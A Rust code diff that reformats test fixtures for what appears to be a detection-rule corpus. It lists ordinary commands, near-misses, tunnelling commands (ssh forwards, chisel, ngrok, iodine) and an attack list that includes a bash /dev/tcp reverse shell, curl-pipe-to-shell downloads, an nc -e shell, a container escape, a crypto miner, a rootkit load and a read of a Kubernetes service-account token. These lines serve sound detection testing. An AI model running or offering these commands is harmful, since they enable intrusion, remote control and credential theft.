@@ -87,22 +87,43 @@ type Command = (&'static str, &'static [&'static str]);
 const EVERYDAY: &[Command] = &[
     ("/bin/ls", &["ls", "-la", "/app"]),
     ("/bin/cat", &["cat", "/etc/hosts"]),
-    ("/usr/bin/python3", &["python3", "/app/server.py", "--port", "8080"]),
+    (
+        "/usr/bin/python3",
+        &["python3", "/app/server.py", "--port", "8080"],
+    ),
     ("/usr/local/bin/node", &["node", "dist/index.js"]),
     ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
     ("/bin/sh", &["sh", "-c", "/app/healthcheck.sh"]),
-    ("/usr/bin/curl", &["curl", "-fsS", "http://127.0.0.1:8080/healthz"]),
+    (
+        "/usr/bin/curl",
+        &["curl", "-fsS", "http://127.0.0.1:8080/healthz"],
+    ),
     ("/bin/grep", &["grep", "-r", "ERROR", "/var/log/app"]),
     ("/bin/ps", &["ps", "aux"]),
     ("/bin/sleep", &["sleep", "30"]),
-    ("/usr/bin/java", &["java", "-Xmx512m", "-jar", "/opt/app/app.jar"]),
+    (
+        "/usr/bin/java",
+        &["java", "-Xmx512m", "-jar", "/opt/app/app.jar"],
+    ),
     ("/usr/bin/env", &["env"]),
     ("/bin/date", &["date", "+%s"]),
-    ("/usr/bin/tail", &["tail", "-n", "100", "/var/log/app/app.log"]),
-    ("/usr/local/bin/gunicorn", &["gunicorn", "-w", "4", "-b", "0.0.0.0:8000", "app:app"]),
-    ("/usr/bin/find", &["find", "/tmp", "-mtime", "+7", "-delete"]),
+    (
+        "/usr/bin/tail",
+        &["tail", "-n", "100", "/var/log/app/app.log"],
+    ),
+    (
+        "/usr/local/bin/gunicorn",
+        &["gunicorn", "-w", "4", "-b", "0.0.0.0:8000", "app:app"],
+    ),
+    (
+        "/usr/bin/find",
+        &["find", "/tmp", "-mtime", "+7", "-delete"],
+    ),
     ("/bin/mkdir", &["mkdir", "-p", "/app/cache"]),
-    ("/usr/bin/redis-server", &["redis-server", "/etc/redis/redis.conf"]),
+    (
+        "/usr/bin/redis-server",
+        &["redis-server", "/etc/redis/redis.conf"],
+    ),
     ("/usr/bin/git", &["git", "rev-parse", "HEAD"]),
     ("/bin/bash", &["bash", "-c", "echo ok"]),
 ];
@@ -110,43 +131,100 @@ const EVERYDAY: &[Command] = &[
 /// Commands that come close to the tunnelling rule without matching it.
 const NEAR_MISSES: &[Command] = &[
     ("/usr/bin/ssh", &["ssh", "deploy@10.0.4.12"]),
-    ("/usr/bin/ssh", &["ssh", "-o", "StrictHostKeyChecking=no", "git@github.com"]),
+    (
+        "/usr/bin/ssh",
+        &["ssh", "-o", "StrictHostKeyChecking=no", "git@github.com"],
+    ),
     ("/usr/bin/ssh", &["ssh", "-L", "8080:db:5432", "chmod"]),
     ("/usr/bin/socat", &["socat", "-", "TCP:10.0.0.8:6379"]),
     ("/usr/local/bin/chisel", &["chisel", "--help"]),
-    ("/usr/bin/python3", &["python3", "relay.py", "10.1.2.3:8080"]),
+    (
+        "/usr/bin/python3",
+        &["python3", "relay.py", "10.1.2.3:8080"],
+    ),
     ("/usr/bin/sshuttle", &["sshuttle", "--version"]),
     ("/usr/bin/nc", &["nc", "-z", "10.0.0.9", "5432"]),
 ];
 
 /// Commands that the tunnelling rule flags.
 const TUNNELS: &[Command] = &[
-    ("/usr/bin/ssh", &["ssh", "-L", "8080:db.internal:5432", "jump@bastion"]),
-    ("/usr/bin/ssh", &["ssh", "-N", "-R", "9000:localhost:22", "ops@203.0.113.7"]),
-    ("/usr/bin/ssh", &["ssh", "-o", "DynamicForward=1080", "user@198.51.100.4"]),
-    ("/usr/bin/socat", &["socat", "TCP4-LISTEN:4444,fork", "TCP:10.0.0.5:22"]),
-    ("/usr/local/bin/chisel", &["chisel", "client", "198.51.100.9:443", "R:socks"]),
+    (
+        "/usr/bin/ssh",
+        &["ssh", "-L", "8080:db.internal:5432", "jump@bastion"],
+    ),
+    (
+        "/usr/bin/ssh",
+        &["ssh", "-N", "-R", "9000:localhost:22", "ops@203.0.113.7"],
+    ),
+    (
+        "/usr/bin/ssh",
+        &["ssh", "-o", "DynamicForward=1080", "user@198.51.100.4"],
+    ),
+    (
+        "/usr/bin/socat",
+        &["socat", "TCP4-LISTEN:4444,fork", "TCP:10.0.0.5:22"],
+    ),
+    (
+        "/usr/local/bin/chisel",
+        &["chisel", "client", "198.51.100.9:443", "R:socks"],
+    ),
     ("/usr/local/bin/ngrok", &["ngrok", "tcp", "22"]),
-    ("/usr/bin/sshuttle", &["sshuttle", "-r", "user@198.51.100.2", "10.0.0.0/8"]),
+    (
+        "/usr/bin/sshuttle",
+        &["sshuttle", "-r", "user@198.51.100.2", "10.0.0.0/8"],
+    ),
     ("/usr/local/bin/gost", &["gost", "-L=socks5://:1080"]),
-    ("/usr/bin/plink", &["plink", "-N", "10.0.0.5:8080:192.168.1.10:80"]),
+    (
+        "/usr/bin/plink",
+        &["plink", "-N", "10.0.0.5:8080:192.168.1.10:80"],
+    ),
     ("/usr/sbin/iodine", &["iodine", "-f", "t.example.com"]),
 ];
 
 /// Attacker commands that other rules of the corpus flag.
 const ATTACKS: &[Command] = &[
     ("/bin/bash", &["bash", "-i"]),
-    ("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]),
-    ("/bin/sh", &["sh", "-c", "curl -s http://203.0.113.8/x.sh | sh"]),
-    ("/usr/bin/wget", &["wget", "-qO-", "http://203.0.113.8/install.sh"]),
-    ("/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"]),
+    (
+        "/bin/bash",
+        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
+    ),
+    (
+        "/bin/sh",
+        &["sh", "-c", "curl -s http://203.0.113.8/x.sh | sh"],
+    ),
+    (
+        "/usr/bin/wget",
+        &["wget", "-qO-", "http://203.0.113.8/install.sh"],
+    ),
+    (
+        "/usr/bin/nsenter",
+        &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
+    ),
     ("/bin/chmod", &["chmod", "u+s", "/tmp/.x"]),
-    ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
-    ("/tmp/xmrig", &["xmrig", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"]),
+    (
+        "/usr/bin/nc",
+        &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
+    ),
+    (
+        "/tmp/xmrig",
+        &[
+            "xmrig",
+            "-o",
+            "stratum+tcp://pool.example:3333",
+            "--donate-level",
+            "1",
+        ],
+    ),
     ("/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"]),
     ("/sbin/insmod", &["insmod", "/tmp/rk.ko"]),
-    ("/usr/bin/python3", &["python3", "-c", "import pty; pty.spawn('/bin/sh')"]),
-    ("/usr/bin/cat", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
+    (
+        "/usr/bin/python3",
+        &["python3", "-c", "import pty; pty.spawn('/bin/sh')"],
+    ),
+    (
+        "/usr/bin/cat",
+        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
+    ),
 ];
 
 const PARENTS: &[(&str, &str)] = &[
@@ -369,7 +447,12 @@ fn endpoint_network(rng: &mut Rng, index: usize) -> Json {
         ("sshd", "/usr/sbin/sshd"),
         ("wget", "/usr/bin/wget"),
     ]);
-    let destination = *rng.pick(&["10.0.2.30", "203.0.113.5", "169.254.169.254", "198.51.100.20"]);
+    let destination = *rng.pick(&[
+        "10.0.2.30",
+        "203.0.113.5",
+        "169.254.169.254",
+        "198.51.100.20",
+    ]);
     json!({
         "@timestamp": timestamp(index),
         "agent": {"type": "endpoint", "version": "8.17.0"},
